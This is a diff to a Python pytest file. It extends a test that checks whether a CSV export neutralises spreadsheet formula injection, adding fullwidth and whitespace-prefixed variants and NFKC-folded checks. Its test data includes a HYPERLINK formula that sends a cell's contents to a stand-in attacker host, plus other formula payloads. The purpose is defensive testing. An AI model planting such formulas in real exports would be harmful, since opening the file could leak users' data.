@@ -8,6 +8,7 @@ import os
 import stat
 import subprocess
 import sys
+import unicodedata
 
 import pytest
 from helpers import event, fresh_tube
@@ -74,7 +75,8 @@ def _unescape(cell: str) -> str:
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&C2,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1",
-            "'already quoted", 'a,"b"\nc', "S-plain"]
+            "'already quoted", 'a,"b"\nc', "S-plain", " =1+1", "\u3000=1+1", "\uff1dHYPERLINK(1)", "  \uff0b1",
+            "\n=1", " " * 20 + "=1", " plain", "\uff07quoted"]
 
 
 def test_export_neutralises_spreadsheet_formulas(server_factory):
@@ -94,7 +96,8 @@ def test_export_neutralises_spreadsheet_formulas(server_factory):
         assert len(rows) == len(FORMULAS)
         for row in rows:
             for column, cell in row.items():
-                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+                folded = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n")
+                assert not folded.startswith(("=", "+", "-", "@")), (column, cell)
             assert _unescape(row["site_id"]) == tubes[row["tube"]]
         if what == "bindings":
             for row in rows:
